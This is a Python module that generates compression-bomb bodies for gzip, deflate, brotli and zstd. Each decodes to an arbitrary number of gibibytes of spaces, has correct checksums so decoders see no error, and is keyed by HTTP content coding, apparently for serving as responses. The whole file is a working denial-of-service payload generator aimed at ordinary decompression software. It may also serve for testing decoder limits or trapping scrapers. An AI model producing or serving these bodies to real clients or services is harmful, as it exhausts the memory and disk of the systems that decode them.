"""Compressed bodies of any decoded size, made piece by piece in constant memory and next to no time.

Each decodes to that many SPACE characters, checksums included, so that a decoder which does go on to the end finds
nothing wrong. A compressor is run over one mebibyte only: what it gives for the second of two equal mebibytes can be
repeated as often as one likes.
"""

from __future__ import annotations

import struct
import zlib
from collections.abc import Callable, Iterator
from functools import cache

import brotli

MIB = 1024 * 1024
GIB = 1024 * MIB
BLANKS = b" " * MIB

_CRC_POLYNOMIAL = 0xEDB88320  # RFC 1952, 8
_ADLER_MODULUS = 65521  # RFC 1950, 9
_ZSTD_HEAD = b"\x28\xb5\x2f\xfd\x00\x38"  # RFC 8878, 3.1.1: no content size, no checksum, a window of 128 KiB
_ZSTD_RLE_BYTES = 128 * 1024


def gzip_bomb(mebibytes: int) -> Iterator[bytes]:
    """RFC 1952, one member."""
    yield b"\x1f\x8b\x08\0\0\0\0\0\0\xff"
    yield from _raw_deflate(mebibytes)
    yield struct.pack("<II", _crc_of_blanks(mebibytes), mebibytes * MIB & 0xFFFFFFFF)


def deflate_bomb(mebibytes: int) -> Iterator[bytes]:
    """RFC 1950."""
    yield b"\x78\x9c"
    yield from _raw_deflate(mebibytes)
    size, blank = mebibytes * MIB, BLANKS[0]
    low = 1 + blank * size
    high = size + blank * size * (size + 1) // 2
    yield struct.pack(">HH", high % _ADLER_MODULUS, low % _ADLER_MODULUS)


def brotli_bomb(mebibytes: int) -> Iterator[bytes]:
    """RFC 7932."""
    first, second, end = _pieces(_Brotli)
    yield from _repeated(first, second, end, mebibytes)


def zstd_bomb(mebibytes: int) -> Iterator[bytes]:
    """RFC 8878: blocks of one byte that stands for 128 KiB."""
    block = (_ZSTD_RLE_BYTES << 3 | 1 << 1).to_bytes(3, "little") + BLANKS[:1]
    last = (_ZSTD_RLE_BYTES << 3 | 1 << 1 | 1).to_bytes(3, "little") + BLANKS[:1]
    count = mebibytes * MIB // _ZSTD_RLE_BYTES
    yield _ZSTD_HEAD
    for _ in range((count - 1) // 1024):
        yield block * 1024
    yield block * ((count - 1) % 1024) + last


BOMBS: dict[str, Callable[[int], Iterator[bytes]]] = {
    "gzip": gzip_bomb,
    "deflate": deflate_bomb,
    "br": brotli_bomb,
    "zstd": zstd_bomb,
}
"""By content coding; each takes the decoded size in MiB."""


class _Deflate:
    """zlib's compressor without a wrapper, with a byte boundary after each call."""

    def __init__(self) -> None:
        self._compressor = zlib.compressobj(9, zlib.DEFLATED, -zlib.MAX_WBITS)

    def take(self, data: bytes) -> bytes:
        return self._compressor.compress(data) + self._compressor.flush(zlib.Z_SYNC_FLUSH)

    def end(self) -> bytes:
        return self._compressor.flush()


class _Brotli:
    """The same for brotli."""

    def __init__(self) -> None:
        self._compressor = brotli.Compressor(quality=5)

    def take(self, data: bytes) -> bytes:
        return bytes(self._compressor.process(data) + self._compressor.flush())

    def end(self) -> bytes:
        return bytes(self._compressor.finish())


@cache
def _pieces(kind: type[_Deflate | _Brotli]) -> tuple[bytes, bytes, bytes]:
    """What the first mebibyte gives, what each further one gives, and what ends the stream."""
    compressor = kind()
    return compressor.take(BLANKS), compressor.take(BLANKS), compressor.end()


def _raw_deflate(mebibytes: int) -> Iterator[bytes]:
    first, second, end = _pieces(_Deflate)
    yield from _repeated(first, second, end, mebibytes)


def _repeated(first: bytes, second: bytes, end: bytes, count: int) -> Iterator[bytes]:
    yield first
    at_once = 64
    for _ in range((count - 1) // at_once):
        yield second * at_once
    yield second * ((count - 1) % at_once) + end


def _crc_of_blanks(mebibytes: int) -> int:
    """CRC-32 of so many mebibytes of blanks, by doubling: crc(AB) = crc(A) * x^(8 len B) + crc(B) modulo P."""
    total, total_bytes = 0, 0
    crc, size = zlib.crc32(BLANKS), MIB
    while mebibytes:
        if mebibytes & 1:
            total = _product(_power(8 * size), total) ^ crc if total_bytes else crc
            total_bytes += size
        crc = _product(_power(8 * size), crc) ^ crc
        size *= 2
        mebibytes >>= 1
    return total


def _power(exponent: int) -> int:
    """x^exponent modulo P, bits in reflected order."""
    result, square = 1 << 31, 1 << 30
    while exponent:
        if exponent & 1:
            result = _product(square, result)
        square = _product(square, square)
        exponent >>= 1
    return result


def _product(a: int, b: int) -> int:
    """a * b modulo P."""
    product = 0
    for position in range(31, -1, -1):
        if a >> position & 1:
            product ^= b
        b = b >> 1 ^ (_CRC_POLYNOMIAL if b & 1 else 0)
    return product
